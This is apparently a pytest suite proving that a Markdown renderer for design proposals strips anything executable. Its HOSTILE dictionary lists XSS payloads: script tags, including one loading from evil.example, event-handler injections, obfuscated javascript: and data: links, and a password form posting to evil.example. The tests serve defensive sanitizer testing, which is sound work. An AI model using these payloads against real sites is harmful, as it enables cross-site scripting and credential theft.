"""Proposals and briefs in Markdown render to HTML that runs nothing: no scripts, no
event handlers, no ``javascript:`` or ``data:`` links, no styles, frames or images;
headings, emphasis, lists, code and safe links stay.

Each hostile text is checked twice: through the real renderer (raw HTML off, so typed
HTML shows as text), and through a renderer with raw HTML on, so the sanitizer's layer
is proven on its own (the defence if a renderer bug ever let HTML through)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from apps.codesign import markdown
from apps.codesign.markdown import render

ALLOWED = {"p", "br", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "h6", "a", "hr"}
SAFE_REL = "nofollow noopener noreferrer"


class Tags(HTMLParser):
    """The elements and attributes of a piece of HTML, as a browser would read them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    @property
    def names(self) -> list[str]:
        return [tag for tag, _ in self.elements]

    @property
    def hrefs(self) -> list[str]:
        return [attrs["href"] for tag, attrs in self.elements if tag == "a" and "href" in attrs]


def assert_harmless(html: str) -> Tags:
    tags = Tags(html)
    for tag, attrs in tags.elements:
        assert tag in ALLOWED, html
        for name in attrs:
            assert not name.startswith("on"), html
            assert name != "style", html
        if tag == "a":
            assert set(attrs) <= {"href", "title", "rel"}, html
            assert attrs.get("rel") == SAFE_REL, html
    for href in tags.hrefs:
        assert href.split(":", 1)[0].strip().lower() in {"http", "https", "mailto"} or ":" not in href, html
    return tags


@pytest.fixture(params=["markdown", "raw html"])
def render_both(request, monkeypatch):
    """``render``, and ``render`` with a renderer that lets raw HTML through."""
    if request.param == "raw html":
        monkeypatch.setattr(markdown, "_RENDERER", MarkdownIt("commonmark", {"html": True}))
    return render


HOSTILE = {
    "script": "<script>alert('hi')</script>Benches are nice.",
    "script in caps": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>Benches.",
    "image with onerror": '<img src="x" onerror="alert(1)">',
    "link with onclick and style": '<a href="https://example.org" onclick="steal()" style="color:red">plans</a>',
    "paragraph with onmouseover": '<p onmouseover="alert(1)" style="position:fixed">hover</p>',
    "svg onload": "<svg onload=alert(1)></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style element": "<style>body { display: none }</style>text",
    "javascript link in html": '<a href="javascript:alert(1)">x</a>',
    "javascript link in mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript link with an entity": '<a href="jav&#x61;script:alert(1)">x</a>',
    "javascript link with a decimal entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "data link in html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "markdown javascript link": "[plans](javascript:alert(1))",
    "markdown javascript link in mixed case": "[plans](JaVaScRiPt:alert(1))",
    "markdown javascript link with an entity": "[plans](jav&#x61;script:alert(1))",
    "markdown data link": "[plans](data:text/html;base64,PHNjcmlwdD4=)",
    "markdown vbscript link": "[plans](vbscript:msgbox(1))",
    "markdown image": "![sketch](https://example.org/sketch.png)",
    "markdown image with javascript": "![sketch](javascript:alert(1))",
    "html image": '<img src="https://example.org/sketch.png">',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "object": '<object data="https://evil.example/x.swf"></object>',
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_renders_without_anything_that_runs(render_both, text):
    html = str(render_both(text))
    tags = assert_harmless(html)
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()
    assert "<iframe" not in html.lower()
    assert not any(
        name in {"script", "img", "iframe", "svg", "style", "form", "input", "object"} for name in tags.names
    )
    assert all("javascript" not in href.lower() and "data:" not in href.lower() for href in tags.hrefs)


def test_typed_html_shows_as_text_for_the_reader():
    html = str(render("<b>bold?</b> <script>alert(1)</script>"))
    assert html == "<p>&lt;b&gt;bold?&lt;/b&gt; &lt;script&gt;alert(1)&lt;/script&gt;</p>\n"


def test_a_javascript_link_is_left_as_plain_text_not_a_link():
    html = str(render("[plans](javascript:alert(1))"))
    assert Tags(html).names == ["p"]


def test_headings_start_at_h3_below_the_pages_own():
    assert str(render("# Bench\n\n## Wood")) == "<h3>Bench</h3>\n<h4>Wood</h4>\n"


def test_headings_keep_their_order_once_shifted():
    """A third-level heading stays below the second-level one before it."""
    tags = Tags(str(render("# Bench\n\n## Wood\n\n### Oak\n\n#### Finish")))
    assert tags.names == ["h3", "h4", "h5", "h6"]


def test_emphasis_lists_code_and_quotes_stay():
    html = str(render("*soft* and **strong**, `code`\n\n- one\n- two\n\n1. first\n\n> said\n\n```\na < b\n```\n\n---"))
    assert html == (
        "<p><em>soft</em> and <strong>strong</strong>, <code>code</code></p>\n"
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
        "<ol>\n<li>first</li>\n</ol>\n"
        "<blockquote>\n<p>said</p>\n</blockquote>\n"
        "<pre><code>a &lt; b\n</code></pre>\n"
        "<hr>\n"
    )


def test_a_safe_link_stays_and_opens_without_handing_over_the_page(render_both):
    html = str(render_both('[the plans](https://example.org/plans "Plans") and [mail](mailto:ana@example.org)'))
    tags = assert_harmless(html)
    assert tags.hrefs == ["https://example.org/plans", "mailto:ana@example.org"]
    links = [attrs for tag, attrs in tags.elements if tag == "a"]
    assert links[0] == {"href": "https://example.org/plans", "title": "Plans", "rel": SAFE_REL}
    assert links[1]["rel"] == SAFE_REL


def test_a_typed_rel_or_target_is_replaced(monkeypatch):
    monkeypatch.setattr(markdown, "_RENDERER", MarkdownIt("commonmark", {"html": True}))
    html = str(render('<a href="https://example.org" rel="opener" target="_blank">plans</a>'))
    assert [attrs for tag, attrs in Tags(html).elements if tag == "a"] == [
        {"href": "https://example.org", "rel": SAFE_REL}
    ]


def test_nothing_renders_as_an_empty_string():
    assert str(render("")) == ""
    assert str(render(None)) == ""
